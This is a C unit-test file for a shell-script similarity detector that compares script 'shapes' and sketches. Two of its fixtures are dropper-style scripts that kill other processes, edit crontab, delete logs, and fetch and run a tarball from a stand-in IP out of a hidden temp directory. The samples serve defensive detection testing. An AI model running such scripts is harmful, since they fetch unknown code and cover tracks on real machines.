// SPDX-License-Identifier: Apache-2.0
/* Variants of one script, and scripts that only use the same commands. DAVY TEST IMITATION. */
#include <errno.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "harness/test.h"
#include "inspect/script.h"

static const char ORIGINAL[] = "#!/bin/sh\nHOST=http://192.0.2.1\nsetup() {\n  mkdir -p /tmp/.a; cd /tmp/.a\n  curl -fsSL $HOST/a.tar.gz -o a.tgz\n"
                               "  tar -xzf a.tgz; chmod +x run\n  nohup ./run >/dev/null 2>&1 &\n}\nclean() {\n  pkill -f one; killall -9 two\n"
                               "  crontab -l | grep -v three | crontab -\n  rm -rf /var/log/four\n}\nclean\nsetup\n";
/* Other names, hosts and order. */
static const char VARIANT[] = "#!/bin/bash\nU=https://203.0.113.9/x\nkehren() {\n  pkill -f uno; killall -9 dos\n"
                              "  crontab -l | grep -v tres | crontab -\n  rm -rf /var/log/cuatro\n}\nbauen() {\n  mkdir -p /var/tmp/.b; cd /var/tmp/.b\n"
                              "  curl -fsSL $U/b.tar.gz -o b.tgz\n  tar -xzf b.tgz; chmod +x los\n  nohup ./los >/dev/null 2>&1 &\n}\nkehren\nbauen\n";
static const char OTHER[] = "#!/bin/sh\nset -e\nif [ -f /etc/app.conf ]; then\n  . /etc/app.conf\nfi\ncurl -fsSL https://example.org/app.tar.gz -o app.tgz\n"
                            "tar -xzf app.tgz -C /opt\nln -sf /opt/app/bin/app /usr/local/bin/app\nsystemctl daemon-reload\nsystemctl enable --now app\necho done\n";

static void shape_of(const char *text, struct shape *ret)
{
    script_shape(str_from(text), ret);
}

TEST(variants_are_alike_and_others_are_not)
{
    struct shape a = {}, b = {}, c = {};
    shape_of(ORIGINAL, &a);
    shape_of(VARIANT, &b);
    shape_of(OTHER, &c);
    CHECK(a.runs.n >= SHAPE_RUNS_MIN && c.runs.n >= SHAPE_RUNS_MIN);
    CHECK(shape_contained(&a, &b) >= 0.8 && shape_contained(&b, &a) >= 0.8);
    CHECK(shape_contained(&a, &c) < 0.35 && shape_contained(&c, &a) < 0.35);
    CHECK(shape_contained(&a, &a) == 1);
    shape_done(&a);
    shape_done(&b);
    shape_done(&c);
}

/* How many of the numbers in a sketch's text stand in another's too. */
static unsigned shared(const char *a, const char *b)
{
    unsigned n = 0;
    char number[9] = "";
    for (; *a; a += 8) {
        memcpy(number, a, 8);
        for (const char *at = b; *at; at += 8)
            n += !memcmp(at, number, 8);
    }
    return n;
}

TEST(variants_share_most_of_their_sketch)
{
    const char *const texts[] = {ORIGINAL, OTHER, VARIANT};
    char text[3][SHAPE_SKETCH * 8 + 1];
    for (size_t i = 0; i < 3; i++) {
        struct shape s = {};
        struct shape_sketch k;
        shape_of(texts[i], &s);
        shape_sketch(&s, &k);
        shape_done(&s);
        shape_sketch_text(&k, text[i]);
        CHECK_INT(strlen(text[i]), (size_t)8 * k.n);
        CHECK(strspn(text[i], "0123456789abcdef") == strlen(text[i]));
        for (unsigned n = 1; n < k.n; n++)
            CHECK(memcmp(text[i] + (size_t)8 * (n - 1), text[i] + (size_t)8 * n, 8) < 0); /* ascending, each once */
    }
    const unsigned of = (unsigned)strlen(text[0]) / 8;
    CHECK(shared(text[0], text[0]) == of);
    CHECK(shared(text[0], text[2]) >= of * 7 / 10);
    CHECK(shared(text[0], text[1]) <= of * 4 / 10);
}

TEST(short_scripts_have_none)
{
    struct shape s = {};
    struct shape_sketch k;
    shape_of("#!/bin/sh\necho a\nls -l\n", &s);
    shape_sketch(&s, &k);
    CHECK_INT(k.n, 0);
    CHECK(shape_contained(&s, &s) == 0);
    shape_done(&s);
}

TEST(shipped_shapes_load_and_mistakes_are_told)
{
    struct shapes known = {};
    struct error err = ERROR_NULL;
    CHECK_INT(shapes_add_file(&known, DAVY_SOURCE_ROOT "/rules/intel/shapes-families.txt", &err), 0);
    CHECK(known.n >= 4);
    for (size_t i = 0; i < known.n; i++)
        for (size_t j = 0; j < known.n; j++)
            CHECK(i == j || shape_contained(&known.v[i].shape, &known.v[j].shape) < 0.5);
    shapes_done(&known);
    CHECK(shapes_add_file(&known, "/nonexistent", &err) < 0);
    char path[] = "/tmp/davy-shapes-XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0 && write(fd, "[short]\nls\n", 11) == 11);
    close(fd);
    CHECK_INT(shapes_add_file(&known, path, &err), -EINVAL);
    CHECK(strstr(err.text, ":1: [short]"));
    unlink(path);
    shapes_done(&known);
}
